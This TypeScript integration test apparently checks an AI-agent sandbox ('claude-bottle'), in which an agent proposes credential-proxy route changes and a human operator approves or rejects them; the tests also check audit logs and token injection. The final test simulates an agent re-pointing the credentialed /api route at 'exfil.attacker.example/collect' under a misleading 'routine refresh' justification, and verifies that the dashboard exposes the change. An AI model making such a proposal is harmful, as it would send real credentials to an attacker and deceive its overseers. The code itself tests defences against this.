import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { bridgeGateway } from "../../../src/cli/demo/git-upstream.ts";
import { CRED_PROXY } from "../../../src/contracts/cred-proxy.ts";
import { EGRESS } from "../../../src/contracts/egress-proxy.ts";

import { manifest, type TempHome, tempHome } from "../../helpers/temp-home.ts";
import { connectDocker } from "../docker/engine-available.ts";
import { type HttpsUpstream, startHttpsUpstream } from "./https-upstream.ts";
import { supervisedBottle } from "./mcp-client.ts";

const docker = await connectDocker({ baseImage: true });
const { engine } = docker;

const TOKEN = `cbtest_${randomBytes(20).toString("hex")}`;

interface Route {
  path: string;
  upstream: string;
  auth_scheme: string;
  slot: string;
  roles: string[];
}

describe("supervise applies a cred-proxy routes change to a running bottle", {
  skip: docker.skip,
  timeout: 600_000,
}, () => {
  let fixture: TempHome;
  let upstream: HttpsUpstream;
  let env: NodeJS.ProcessEnv;
  let instance = "";
  const bottle = supervisedBottle(() => ({ instance, env, cwd: fixture.project }));
  const { cli, sh, pendingId } = bottle;
  const callTool = async (tool: string, args: Record<string, unknown>) => {
    const answer = await bottle.callTool(tool, args);
    assert.ok(answer, `the ${tool} call failed`);
    return answer;
  };
  const credProxy = () => `cb-${instance}-cred-proxy`;
  const liveRoutes = async () =>
    (await engine.containerExec(credProxy(), ["cat", CRED_PROXY.routesFile])).stdout;
  const egressConfig = async () =>
    (await engine.containerExec(`cb-${instance}-egress-proxy`, ["cat", EGRESS.configFile])).stdout;
  /** The agent's current routes, as it reads them: the base of every proposal it makes. */
  const currentRoutes = async (): Promise<Route[]> =>
    (
      JSON.parse((await sh("cat /etc/claude-bottle/current-config/routes.json")).stdout) as {
        routes: Route[];
      }
    ).routes;
  const viaCredProxy = (path: string) =>
    sh(`curl -sS -m 30 -o /dev/null -w '%{http_code}' http://cred-proxy:9099${path}`);

  before(async () => {
    fixture = tempHome();
    upstream = await startHttpsUpstream(["upstream.test", "other.test"]);
    fixture.write(
      "bottles/routed.md",
      manifest(`
cred_proxy:
  routes:
    - path: /api
      upstream: https://upstream.test:${upstream.port}
      auth_scheme: Bearer
      token_ref: CB_TEST_TOKEN
egress:
  hosts: {upstream.test: host-gateway, other.test: host-gateway}
  ip_allowlist: ["${await bridgeGateway(engine)}/32"]
  upstream_ca: ["${upstream.caFile}"]
supervise: true
`),
    );
    fixture.write("agents/router.md", manifest("bottle: routed", "Use the APIs."));
    env = { CLAUDE_BOTTLE_HOME: fixture.home, CB_TEST_TOKEN: TOKEN };
    const started = await cli(["start", "router", "--yes", "--detach"]);
    assert.equal(started.status, 0, started.stderr);
    instance = started.stdout.trim();
  });

  after(async () => {
    if (instance) await cli(["stop", instance]);
    upstream?.close();
    fixture?.[Symbol.dispose]();
  });

  it("serves a route to a new host once an operator approves it, without restarting anything", async () => {
    assert.equal((await viaCredProxy("/other/hello")).stdout, "404", "no such route yet");
    const ids = async () =>
      Promise.all(
        ["cred-proxy", "egress-proxy", "agent"].map(
          async (role) => (await engine.containerInspect(`cb-${instance}-${role}`))?.id,
        ),
      );
    const containersBefore = await ids();

    const routes = await currentRoutes();
    assert.deepEqual(
      routes.map((route) => route.path),
      ["/api"],
    );
    const asked = callTool("propose_routes", {
      routes: [
        ...routes,
        {
          path: "/other",
          upstream: `https://other.test:${upstream.port}/v2`,
          auth_scheme: "token",
          slot: routes[0]?.slot,
        },
      ],
      justification: "the task needs the other API",
    });
    const id = await pendingId("/other");
    const approved = await cli(["approve", id, "--note", "ok for this task"]);
    assert.equal(approved.status, 0, approved.stderr);
    assert.match(
      approved.stdout,
      new RegExp(
        `approved ${id}: cred-proxy routes now /other, /api; added /other → https://other\\.test:${upstream.port}/v2 \\(token ${routes[0]?.slot}\\); added other\\.test:${upstream.port} to egress\\.allowlist`,
      ),
    );

    const answer = await asked;
    assert.equal(answer.isError, false, answer.text);
    assert.match(answer.text, /^approved \(proposal [0-9a-f]{8}\): cred-proxy routes now/);
    assert.match(answer.text, /ok for this task/);

    // The agent asks with a credential of its own invention; the upstream sees the real token.
    const response = await sh(
      `curl -sS -m 30 -H 'Authorization: token agent-invented' http://cred-proxy:9099/other/hello`,
    );
    assert.equal(response.status, 0, response.stderr);
    assert.deepEqual(JSON.parse(response.stdout), { ok: true, host: "other.test", url: "/v2/hello" });
    const seen = upstream.seen.find((request) => request.url === "/v2/hello");
    assert.equal(seen?.headers.authorization, `token ${TOKEN}`);
    assert.equal((await viaCredProxy("/api/still")).stdout, "200", "the old route still works");

    assert.deepEqual(await ids(), containersBefore, "the same containers, none restarted");
    const health = await engine.containerExec(credProxy(), [
      "node",
      "-e",
      `fetch("http://127.0.0.1:${CRED_PROXY.healthPort}/healthz").then(r=>r.json()).then(j=>console.log(j.generation))`,
    ]);
    assert.equal(health.stdout.trim(), "2", "cred-proxy reloaded once");
  });

  it("shows the agent the new routes and allowlist, and audits the change with its diff", async () => {
    assert.deepEqual(
      (await currentRoutes()).map((route) => route.path),
      ["/other", "/api"],
    );
    assert.match(
      (await sh("cat /etc/claude-bottle/current-config/allowlist")).stdout,
      new RegExp(`^other\\.test:${upstream.port}$`, "m"),
    );
    const entry = readFileSync(join(fixture.home, "logs", instance, "supervise-audit.jsonl"), "utf8")
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as { kind: string; decision: string; diff: string[]; note?: string })
      .find((line) => line.kind === "routes" && line.decision === "approved");
    assert.ok(entry);
    assert.equal(entry.note, "ok for this task");
    assert.ok(
      entry.diff.some((line) =>
        line.startsWith(`+route /other → https://other.test:${upstream.port}/v2 (token `),
      ),
      entry.diff.join("\n"),
    );
    assert.ok(entry.diff.includes(`+other.test:${upstream.port}`), entry.diff.join("\n"));
  });

  it("changes nothing when the operator rejects a routes proposal", async () => {
    const [routesBefore, egressBefore] = [await liveRoutes(), await egressConfig()];
    const routes = await currentRoutes();
    const asked = callTool("propose_routes", {
      routes: [
        ...routes,
        {
          path: "/third",
          upstream: `https://other.test:${upstream.port}/v3`,
          auth_scheme: "Bearer",
          slot: routes[0]?.slot,
        },
      ],
      justification: "more",
    });
    const id = await pendingId("/third");
    const rejected = await cli(["reject", id, "--reason", "not needed"]);
    assert.equal(rejected.status, 0, rejected.stderr);
    assert.match((await asked).text, /^rejected \(proposal [0-9a-f]{8}\): not needed\. Nothing changed/);
    assert.equal(await liveRoutes(), routesBefore);
    assert.equal(await egressConfig(), egressBefore);
    assert.equal((await viaCredProxy("/third/x")).stdout, "404");
    assert.ok(!upstream.seen.some((request) => request.url.startsWith("/v3")));
  });

  it("shows a proposal that re-points an existing route at another upstream, with the new upstream and slot", async () => {
    const routes = await currentRoutes();
    const hijacked = routes.map((route) =>
      route.path === "/api" ? { ...route, upstream: "https://exfil.attacker.example/collect" } : route,
    );
    const asked = callTool("propose_routes", { routes: hijacked, justification: "routine refresh" });
    const id = await pendingId("exfil.attacker.example");
    try {
      const listed = await cli(["dashboard", "--once"]);
      const row = listed.stdout.split("\n").find((line) => line.startsWith(id)) ?? "";
      assert.match(
        row,
        /\/api → https:\/\/exfil\.attacker\.example\/collect \(\S+ CRED_PROXY_TOKEN_\d+/,
        row,
      );
    } finally {
      const rejected = await cli(["reject", id, "--reason", "no"]);
      assert.equal(rejected.status, 0, rejected.stderr);
    }
    await asked;
  });
});
